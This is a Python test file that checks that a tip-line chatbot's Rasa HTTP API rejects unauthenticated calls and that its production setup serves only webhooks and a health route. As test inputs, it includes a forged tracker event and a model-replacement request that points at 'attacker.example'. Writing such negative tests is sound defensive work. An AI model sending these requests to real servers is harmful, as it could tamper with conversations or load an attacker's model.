"""Rasa's HTTP API, for real: without the token every API call is refused (no tracker read,
no event appended, no model download); with it /model/parse works. The production Rasa
(docker/compose.yml's command and docker/credentials.prod.yml) serves the channels' webhooks
and the health route only: no API, no REST channel."""

from __future__ import annotations

import sys
import uuid
from typing import Iterator

import pytest
import requests
import yaml

from harness.fakes.twilio_api import FakeTwilioApi
from harness.servers import (
    ARTIFACTS,
    ROOT,
    Server,
    TipLineStack,
    free_port,
    stack_env,
    write_endpoints,
)
from harness.twilio import twilio_env

# (method, path, JSON body): reading a conversation, writing into one, replacing the model
API_CALLS = [
    ("GET", "/conversations/{who}/tracker", None),
    ("POST", "/conversations/{who}/tracker/events",
     {"event": "slot", "name": "tip_reference", "value": "FORGED"}),
    ("PUT", "/model", {"model_file": "https://attacker.example/model.tar.gz"}),
    ("POST", "/model/parse", {"text": "hello"}),
    ("GET", "/status", None),
]


def call(base: str, method: str, path: str, body: object, **params: str) -> requests.Response:
    return requests.request(method, base + path, json=body, params=params or None, timeout=60)


def test_rasa_api_refuses_calls_without_the_token(sqlite_stack: TipLineStack) -> None:
    who = f"lock-{uuid.uuid4().hex[:10]}"
    sqlite_stack.say(who, "hello")
    for method, path, body in API_CALLS:
        for params in ({}, {"token": "wrong-token"}):
            response = call(sqlite_stack.url, method, path.format(who=who), body, **params)
            assert response.status_code in (401, 403), (method, path, params,
                                                        response.status_code)
    tracker = call(sqlite_stack.url, "GET", f"/conversations/{who}/tracker", None,
                   **sqlite_stack.api_auth)
    assert tracker.status_code == 200 and tracker.json()["sender_id"] == who
    assert not any(e.get("value") == "FORGED" for e in tracker.json()["events"]), \
        "the refused event was not appended"
    parsed = sqlite_stack.parse("I saw bags of drugs loaded into a van near Lacolle")
    assert parsed["text"] and parsed["intent"]["name"]
    assert requests.get(f"{sqlite_stack.url}/", timeout=30).status_code == 200
    assert sqlite_stack.api_auth["token"] not in sqlite_stack.logs(), "token in the logs"


@pytest.fixture(scope="module")
def production_rasa(tmp_path_factory: pytest.TempPathFactory,
                    fake_twilio: FakeTwilioApi) -> Iterator[str]:
    """The Rasa service of docker/compose.yml, run here: same arguments and credentials,
    with a free port, loopback and an in-memory tracker store instead of PostgreSQL."""
    tmp = tmp_path_factory.mktemp("prod-rasa")
    command = yaml.safe_load((ROOT / "docker" / "compose.yml").read_text()
                             )["services"]["rasa"]["command"]
    assert command[:3] == ["python", "-m", "bot.serve"]
    args = list(command[3:])
    port = free_port()
    args[args.index("--port") + 1] = str(port)
    args[args.index("--endpoints") + 1] = str(write_endpoints(tmp))
    env = stack_env(tmp, f"sqlite:///{tmp / 'tips.db'}", **twilio_env(fake_twilio),
                    TIPLINE_ACTIONS_PORT=str(free_port()))
    env.pop("TIPLINE_RASA_API_TOKEN")  # compose sets none
    server = Server("rasa-prod", [sys.executable, "-m", "bot.serve", *args, "-i", "127.0.0.1"],
                    env, f"http://127.0.0.1:{port}/", ARTIFACTS / f"{tmp.name}-rasa.log")
    server.start(timeout=300)
    yield f"http://127.0.0.1:{port}"
    server.stop()


def test_production_rasa_serves_webhooks_and_health_only(production_rasa: str) -> None:
    assert requests.get(f"{production_rasa}/", timeout=30).text.startswith("Hello from Rasa")
    for path in ("/webhooks/tipline_twilio/", "/webhooks/tipline_webchat/", "/webchat/embed.js"):
        assert requests.get(production_rasa + path, timeout=30).status_code == 200, path
    for method, path, body in API_CALLS:
        response = call(production_rasa, method, path.format(who="anyone"), body)
        assert response.status_code in (404, 405), (method, path, response.status_code)
    rest = requests.post(f"{production_rasa}/webhooks/rest/webhook",
                         json={"sender": "x", "message": "hello"}, timeout=30)
    assert rest.status_code == 404, "no REST channel in production"

